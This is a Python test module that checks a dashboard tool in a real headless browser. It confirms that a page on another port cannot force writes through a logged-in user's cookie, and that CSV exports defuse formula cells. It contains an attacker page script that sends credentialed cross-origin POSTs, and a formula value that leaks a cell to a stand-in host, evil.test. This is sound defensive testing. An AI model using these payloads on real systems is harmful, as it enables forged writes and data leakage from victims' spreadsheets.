"""Issue 27.6 and 27.7 where a browser is the victim, in a real headless Chromium.

- 27.6: a person logged into a token-protected dashboard (the HttpOnly SameSite=Strict
  cookie) opens a page served from another port of the same host. SameSite does not
  separate ports, so the cookie goes along with that page's POSTs; the bodies are the
  ones a page can send without a CORS preflight (no Content-Type, text/plain).
- 27.7: the in-page "CSV" export of a table whose cells start like formulas.

``ragmeter serve`` runs as a subprocess; the attacker page is a loopback server too.
Skips when Chromium or playwright is missing, except under CI=true, where it fails.
"""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest

from _browser import serving
from _servers import serve_handler

pytestmark = pytest.mark.slow

TOKEN = "t0ken-27-browser"
RUN_NAME = '=HYPERLINK("http://evil.test/?"&A1,"open")'


@pytest.fixture(scope="module")
def dashboard(
    browser: Any, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[str, Path, Path]]:
    """The token dashboard over a store whose run 1 is named like a formula (after
    ``browser``, so a machine without Chromium skips before serving)."""
    from _web_fixtures import build_small, write_candidates
    from ragmeter.store import Store

    root = tmp_path_factory.mktemp("attack")
    store = root / "runs.db"
    with Store.open(store) as opened:
        build_small(opened)
        opened.update_run(1, name=RUN_NAME)
    candidates = write_candidates(root / "candidates.yaml")
    auth = {"Authorization": f"Bearer {TOKEN}"}
    with serving(store, candidates, "--token", TOKEN, headers=auth) as base:
        yield base, store, candidates


def _attacker_page(target: str) -> bytes:
    label = json.dumps({"run": "better", "item_id": "q01", "supported": False})
    decision = json.dumps({"item_id": "syn-0", "decision": "reject"})
    return f"""<!doctype html><title>waiting</title><script>
const target = {json.dumps(target)};
const posts = [
  ["/api/labels", new Blob([{json.dumps(label)}])],      // no Content-Type at all
  ["/api/labels", {json.dumps(label)}],                  // text/plain;charset=UTF-8
  ["/api/review", new Blob([{json.dumps(decision)}])],
  ["/api/review", {json.dumps(decision)}],
];
Promise.allSettled(posts.map(([path, body]) => fetch(target + path,
  {{method: "POST", mode: "no-cors", credentials: "include", body}})))
  .then((done) => {{ document.title = "sent " + done.length; }});
</script>""".encode()


def _written(store: Path, candidates: Path) -> tuple[Any, str]:
    from ragmeter.store import Store
    from ragmeter.web.work import label_set

    with Store.open(store, read_only=True) as opened:
        labels = opened.labels(label_set(opened.get_run("better").id))
    return labels, candidates.read_text(encoding="utf-8")


def test_finding_06_a_page_on_another_port_cannot_write_in_chromium(
    browser: Any, dashboard: tuple[str, Path, Path]
) -> None:
    """Issue 27.6: the logged-in victim's browser really sends the cookie from the page on
    the other port (the dashboard sees the requests), and the dashboard writes nothing."""
    base, store, candidates = dashboard
    before = _written(store, candidates)
    seen: list[str] = []

    class Attacker(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            body = _attacker_page(base)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    with serve_handler(Attacker) as evil:
        context = browser.new_context()
        page = context.new_page()
        page.goto(f"{base}/?token={TOKEN}")  # the victim logs in: the cookie is set
        assert any(c["name"] == "ragmeter_token" for c in context.cookies())
        page.on("request", lambda r: seen.append(r.url) if r.url.startswith(base) else None)
        page.goto(evil + "/")
        page.wait_for_function("document.title.startsWith('sent')", timeout=15_000)
        context.close()
    assert len([url for url in seen if "/api/" in url]) == 4  # the browser did send them
    time.sleep(0.2)
    assert _written(store, candidates) == before


def test_finding_07_in_page_table_exports_neutralise_formulas_in_chromium(
    browser: Any, dashboard: tuple[str, Path, Path]
) -> None:
    """Issue 27.7: the runs table's in-page CSV export (built by the page's script) writes a
    run named like a formula behind a single quote; numbers stay numbers."""
    base, _, _ = dashboard
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{base}/?token={TOKEN}")
    with page.expect_download() as info:
        page.locator('p.table-export[data-table="runs-table"] a.export-csv').click()
    text = Path(info.value.path()).read_text(encoding="utf-8")
    context.close()
    rows = list(csv.DictReader(io.StringIO(text)))
    names = [row["name"] for row in rows]
    assert "'" + RUN_NAME in names and RUN_NAME not in names
    for row in rows:
        for cell in row.values():
            assert not cell or cell[0] not in "=+@\t\r" or cell.startswith("'")
        assert float(row["run"]) >= 1  # raw numbers are written as numbers
